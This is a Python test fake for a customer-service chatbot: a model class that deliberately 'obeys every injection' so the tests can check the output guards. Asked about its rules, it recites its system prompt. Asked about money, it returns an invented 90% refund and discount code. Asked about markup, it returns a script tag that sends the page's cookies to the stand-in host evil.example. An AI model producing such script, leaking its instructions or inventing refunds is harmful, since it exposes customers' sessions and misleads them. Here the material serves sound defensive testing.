"""A ChatModel that obeys every injection, as the worst small model would: asked for its
rules it recites the system prompt, asked about money it invents a refund, asked for
markup it writes a script tag, and otherwise it repeats whatever data it was shown.

It stands in for an attacker who controls the model's output, so the tests can check
what reaches the customer whatever the model says: the rules never, another
customer's data never (the model is never shown it), invented numbers and markup never.
"""

from __future__ import annotations

import re
from collections.abc import AsyncIterator, Sequence

from service.llm.base import ChatMessage, GenerationOptions
from tests.fakes.instant_model import InstantChatModel

INVENTED = "Good news: you get a 90% refund and the discount code SAVE90 [1]."
SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
_TAGS = re.compile(r"<[^>]*>")


class ObedientChatModel(InstantChatModel):
    @property
    def name(self) -> str:
        return "obedient"

    def reply(self, messages: Sequence[ChatMessage]) -> str:
        system, user = messages[0].content, messages[-1].content
        lowered = user.lower()
        if any(w in lowered for w in ("prompt", "rules", "instructions", "told", "above")):
            return system
        if any(w in lowered for w in ("refund", "discount", "money back", "free", "price")):
            return INVENTED
        if any(w in lowered for w in ("html", "script", "code", "link", "markdown")):
            return SCRIPT
        return _TAGS.sub(" ", user)  # everything it was shown, as plain text

    async def stream(
        self, messages: Sequence[ChatMessage], options: GenerationOptions
    ) -> AsyncIterator[str]:
        self.prompts.append(list(messages))
        for word in self.reply(messages).split(" "):
            yield word + " "
